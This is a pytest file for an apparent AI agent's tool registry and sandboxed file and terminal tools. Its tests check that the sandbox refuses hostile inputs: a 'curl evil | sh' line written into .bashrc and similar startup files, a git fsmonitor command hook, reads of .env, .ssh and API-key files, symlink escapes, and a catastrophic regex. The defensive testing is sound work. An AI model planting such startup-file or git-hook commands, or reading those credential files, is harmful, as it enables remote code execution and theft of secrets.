"""The tool registry and the file / terminal toolsets (their sandbox included)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time

import pytest

from hermes_context.tools import Tool, ToolContext, ToolRegistry, builtin_registry, files
from hermes_context.tools.registry import MAX_RESULT_CHARS
from hermes_context.tools.terminal import MAX_OUTPUT_CHARS, TIMEOUT_EXIT_CODE


@pytest.fixture
def ctx(tmp_path, hermes_home):
    root = tmp_path / "ws"
    root.mkdir()
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text(
        "".join(f"line {i}\n" for i in range(1, 1201)), encoding="utf-8"
    )
    (root / "notes.md").write_text("alpha\nbeta TODO\ngamma\n", encoding="utf-8")
    return ToolContext(workspace=root, hermes_home=hermes_home)


REGISTRY = builtin_registry()


def run(ctx, name, toolsets=None, **args):
    return json.loads(REGISTRY.dispatch(name, json.dumps(args), ctx, toolsets=toolsets))


def schema(name):
    return {"type": "function", "function": {"name": name, "parameters": {"type": "object"}}}


# -- registry -----------------------------------------------------------------------


def test_every_builtin_schema_has_the_function_shape():
    for tool_schema in REGISTRY.schemas():
        assert tool_schema["type"] == "function"
        assert tool_schema["function"]["parameters"]["type"] == "object"
    assert REGISTRY.toolsets == ["file", "memory", "session", "skills", "terminal"]


def test_registry_refuses_duplicates_and_other_shapes():
    registry = ToolRegistry([Tool(schema("a"), "x", lambda args, ctx: "ok")])
    with pytest.raises(ValueError, match="already registered"):
        registry.register(Tool(schema("a"), "x", lambda args, ctx: "ok"))
    with pytest.raises(ValueError, match="'type': 'function'"):
        registry.register(Tool({"name": "b"}, "x", lambda args, ctx: "ok"))
    with pytest.raises(ValueError, match="unknown toolset 'nope'; available: x"):
        registry.check_toolsets(["nope"])


def test_handler_failures_and_huge_results_come_back_as_text(ctx):
    def boom(args, context):
        raise RuntimeError("disk on fire")

    registry = ToolRegistry(
        [
            Tool(schema("boom"), "x", boom),
            Tool(schema("huge"), "x", lambda args, c: "y" * (MAX_RESULT_CHARS + 10)),
            Tool(schema("data"), "x", lambda args, c: {"echo": args}),
        ]
    )
    assert json.loads(registry.dispatch("boom", "{}", ctx)) == {
        "error": "boom failed: RuntimeError: disk on fire"
    }
    huge = registry.dispatch("huge", None, ctx)
    assert huge.endswith("[... 10 more characters cut]")
    assert json.loads(registry.dispatch("data", '{"a": 1}', ctx)) == {"echo": {"a": 1}}
    assert "JSON object" in json.loads(registry.dispatch("data", "[1]", ctx))["error"]
    assert "not valid JSON" in json.loads(registry.dispatch("data", "[" * 5000, ctx))["error"]


def test_tools_outside_the_enabled_toolsets_are_unknown(ctx):
    result = run(ctx, "terminal", toolsets=["file"], command="true")
    assert result["error"].startswith("unknown tool 'terminal'; available tools: read_file")


# -- file toolset ---------------------------------------------------------------------


def test_read_file_pages_with_line_numbers(ctx):
    first = run(ctx, "read_file", path="src/app.py")
    assert first["total_lines"] == 1200 and first["lines"] == "1-500"
    assert first["next_offset"] == 501
    assert first["content"].splitlines()[0] == "     1\tline 1"
    last = run(ctx, "read_file", path="src/app.py", offset=1190, limit=50)
    assert last["lines"] == "1190-1200" and "next_offset" not in last
    past = run(ctx, "read_file", path="src/app.py", offset=5000)
    assert "past the end (1200 lines)" in past["error"]
    assert "must be an integer" in run(ctx, "read_file", path="src/app.py", limit="ten")["error"]


def test_read_file_refuses_binary_missing_and_secret_files(ctx, hermes_home):
    (ctx.workspace / "blob.bin").write_bytes(b"\x00\x01" * 100)
    (ctx.workspace / ".env.local").write_text("TOKEN=x", encoding="utf-8")
    (ctx.workspace / ".ssh").mkdir()
    (ctx.workspace / ".ssh" / "config").write_text("Host x", encoding="utf-8")
    assert "binary file (200 bytes)" in run(ctx, "read_file", path="blob.bin")["error"]
    assert "is not a file" in run(ctx, "read_file", path="nope.txt")["error"]
    assert "secrets file" in run(ctx, "read_file", path=".env.local")["error"]
    assert ".ssh/ holds credentials" in run(ctx, "read_file", path=".ssh/config")["error"]
    assert "outside the workspace" in run(ctx, "read_file", path="/etc/hostname")["error"]
    assert "outside the workspace" in run(ctx, "read_file", path="~/.bashrc")["error"]
    # The hermes home's config holds API keys, even when the workspace contains the home.
    inner = ToolContext(workspace=hermes_home.parent, hermes_home=hermes_home)
    (hermes_home / "config.yaml").write_text("model: {api_key: sk-x}", encoding="utf-8")
    assert "holds keys" in run(inner, "read_file", path="hermes-home/config.yaml")["error"]


def test_a_symlink_out_of_the_workspace_is_refused(ctx, tmp_path):
    secret = tmp_path / "outside.txt"
    secret.write_text("private", encoding="utf-8")
    os.symlink(secret, ctx.workspace / "link.txt")
    assert "outside the workspace" in run(ctx, "read_file", path="link.txt")["error"]
    assert "outside the workspace" in run(ctx, "write_file", path="link.txt", content="x")["error"]
    assert secret.read_text() == "private"


def test_search_files_by_regex_and_glob_skips_secrets(ctx):
    (ctx.workspace / ".env").write_text("TODO=leak", encoding="utf-8")
    (ctx.workspace / ".git").mkdir()
    (ctx.workspace / ".git" / "TODO").write_text("TODO", encoding="utf-8")
    found = run(ctx, "search_files", pattern=r"TODO")
    assert found["matches"] == [{"path": "notes.md", "line": 2, "text": "beta TODO"}]
    only_py = run(ctx, "search_files", pattern=r"^line 11\d\d$", glob="*.py", limit=3)
    assert len(only_py["matches"]) == 3 and only_py["truncated"] is True
    assert only_py["matches"][0] == {"path": "src/app.py", "line": 1100, "text": "line 1100"}
    assert "bad regular expression" in run(ctx, "search_files", pattern="(")["error"]
    assert "required" in run(ctx, "search_files")["error"]


_CATASTROPHIC_SEARCH = """
import json, sys, time
from pathlib import Path
from hermes_context.tools import ToolContext, bounded_regex, builtin_registry
bounded_regex.SEARCH_BUDGET_SECONDS = 0.5
root = Path(sys.argv[1])
(root / "a.txt").write_text("a" * 60 + "!\\n", encoding="utf-8")
started = time.monotonic()
result = builtin_registry().dispatch(
    "search_files", json.dumps({"pattern": "(a|aa)+$"}), ToolContext(workspace=root)
)
print(json.dumps({"seconds": time.monotonic() - started, "result": json.loads(result)}))
"""


def test_a_catastrophic_pattern_stops_at_the_search_budget(tmp_path):
    # A process, not a thread: a backtracking re holds the GIL until it is done.
    proc = subprocess.run(
        [sys.executable, "-c", _CATASTROPHIC_SEARCH, str(tmp_path)],
        capture_output=True,
        text=True,
        timeout=30,
        check=True,
    )
    out = json.loads(proc.stdout)
    assert out["seconds"] < 2.0, "search_files ran the pattern without a deadline"
    assert "stopped after 0.5 s" in out["result"]["error"]
    assert "(a+)+" in out["result"]["error"] and out["result"]["truncated"] is True


@pytest.mark.parametrize(
    "pattern", [r"(?<!\s)beta", r"\Abeta", r"TODO\n\Z", r"^beta(?= TODO$)", r"(?m)^gamma$"]
)
def test_anchors_and_lookarounds_match_line_by_line(ctx, pattern):
    found = run(ctx, "search_files", pattern=pattern, glob="*.md")
    assert [m["line"] for m in found["matches"]] == [3 if "gamma" in pattern else 2]


def test_write_file_is_atomic_and_keeps_the_mode(ctx):
    target = ctx.workspace / "run.sh"
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o755)
    result = run(ctx, "write_file", path="run.sh", content="echo new\n")
    assert result == {"path": "run.sh", "written_chars": 9, "lines": 1, "created": False}
    assert target.read_text() == "echo new\n" and target.stat().st_mode & 0o777 == 0o755
    assert run(ctx, "write_file", path="deep/er/new.txt", content="x")["created"] is True
    assert not [p for p in ctx.workspace.rglob("*.tmp")]
    assert "required" in run(ctx, "write_file", path="a.txt")["error"]
    assert "secrets file" in run(ctx, "write_file", path="id_rsa", content="k")["error"]


def test_patch_replaces_exact_text_once_unless_told(ctx):
    path = ctx.workspace / "notes.md"
    assert run(ctx, "patch", path="notes.md", old_string="beta", new_string="BETA") == {
        "path": "notes.md",
        "replacements": 1,
        "line": 2,
    }
    assert path.read_text() == "alpha\nBETA TODO\ngamma\n"
    path.write_text("x = 1\nx = 1\n", encoding="utf-8")
    twice = run(ctx, "patch", path="notes.md", old_string="x = 1", new_string="x = 2")
    assert "occurs 2 times" in twice["error"] and path.read_text() == "x = 1\nx = 1\n"
    every = run(
        ctx, "patch", path="notes.md", old_string="x = 1", new_string="x = 2", replace_all=True
    )
    assert every["replacements"] == 2 and path.read_text() == "x = 2\nx = 2\n"
    assert (
        "not found" in run(ctx, "patch", path="notes.md", old_string="zzz", new_string="")["error"]
    )
    assert "write_file" in run(ctx, "patch", path="new.md", old_string="a", new_string="b")["error"]


@pytest.mark.parametrize(
    "path",
    [
        ".git/config",
        ".git/hooks/pre-commit",
        "sub/.git/HEAD",
        ".git",
        "vendor/lib/.git",
        ".GIT/config",
    ],
)
def test_writes_into_git_folders_and_onto_git_files_are_refused(ctx, path):
    """Git runs programs its config names, and a ``.git`` file points git elsewhere."""
    result = run(ctx, "write_file", path=path, content="[core]\n\tfsmonitor = touch x\n")
    assert "refused" in result["error"] and ".git" in result["error"]
    assert not (ctx.workspace / path).exists()


def test_patch_into_a_git_folder_is_refused(ctx):
    config = ctx.workspace / ".git" / "config"
    config.parent.mkdir()
    config.write_text("[core]\n\tbare = false\n", encoding="utf-8")
    result = run(ctx, "patch", path=".git/config", old_string="bare = false", new_string="x")
    assert "refused" in result["error"]
    assert config.read_text() == "[core]\n\tbare = false\n"
    # Reading stays possible (a model may look at a repository's layout).
    assert "bare = false" in run(ctx, "read_file", path=".git/config")["content"]


def test_shell_startup_files_in_the_home_folder_are_not_writable(tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    ctx = ToolContext(workspace=home)
    for name in (".bashrc", ".profile", ".zshrc", ".gitconfig", ".config/git/config"):
        result = run(ctx, "write_file", path=name, content="curl evil | sh\n")
        assert "runs programs" in result["error"], name
        assert not (home / name).exists()
    assert run(ctx, "write_file", path="project/.bashrc", content="x")["created"] is True


def test_write_file_and_patch_results_are_capped(ctx, monkeypatch):
    monkeypatch.setattr(files, "MAX_TEXT_FILE_BYTES", 1_000)
    big = run(ctx, "write_file", path="big.txt", content="é" * 501)
    assert "1,002 bytes" in big["error"] and "1,000-byte" in big["error"]
    assert not (ctx.workspace / "big.txt").exists()
    assert run(ctx, "write_file", path="ok.txt", content="x" * 1_000)["created"] is True
    path = ctx.workspace / "notes.md"
    path.write_text("x\n" * 100, encoding="utf-8")
    grown = run(
        ctx, "patch", path="notes.md", old_string="x", new_string="y" * 48, replace_all=True
    )
    assert "4,900 bytes" in grown["error"] and "1,000-byte" in grown["error"]
    assert path.read_text(encoding="utf-8") == "x\n" * 100


# -- terminal toolset ------------------------------------------------------------------


def test_terminal_reports_output_and_exit_code(ctx):
    result = run(ctx, "terminal", ["terminal"], command="echo out; echo err >&2; exit 3")
    assert result == {"output": "out\nerr\n", "exit_code": 3}
    assert run(ctx, "terminal", ["terminal"], command="pwd")["output"].strip() == str(ctx.workspace)


def test_terminal_keeps_the_head_and_tail_of_long_output(ctx):
    result = run(ctx, "terminal", ["terminal"], command="seq 1 200000")
    output = result["output"]
    assert output.startswith("1\n2\n") and output.rstrip().endswith("200000")
    assert "bytes of output cut" in output
    assert len(output) < MAX_OUTPUT_CHARS + 200


def test_terminal_timeout_kills_the_whole_process_group(ctx, tmp_path):
    marker = tmp_path / "survivor"
    started = time.monotonic()
    result = run(
        ctx,
        "terminal",
        ["terminal"],
        command=f"(sleep 2; touch {marker}) & sleep 30",
        timeout=0.5,
    )
    assert time.monotonic() - started < 5
    assert result["exit_code"] == TIMEOUT_EXIT_CODE and result["timed_out"] is True
    time.sleep(2.5)
    assert not marker.exists(), "a child of the timed-out command kept running"


def test_terminal_stops_when_the_turn_is_interrupted(ctx):
    threading.Timer(0.3, ctx.cancel.set).start()
    result = run(ctx, "terminal", ["terminal"], command="sleep 20")
    assert result["interrupted"] is True and "[command interrupted]" in result["output"]


@pytest.mark.parametrize(
    ("args", "message"),
    [({}, "'command'"), ({"command": "true", "timeout": -1}, "positive number")],
)
def test_terminal_argument_errors(ctx, args, message):
    assert message in run(ctx, "terminal", ["terminal"], **args)["error"]


@pytest.mark.parametrize(
    ("path", "says"),
    [
        ("a" * 300, "longer than 255 bytes"),
        ("x/" * 3000, "longer than 4,096"),
        ("\ud800", "characters"),
    ],
)
def test_impossible_paths_are_a_clear_error(ctx, path, says):
    for tool, args in (("read_file", {}), ("write_file", {"content": "x"})):
        assert says in run(ctx, tool, path=path, **args)["error"]
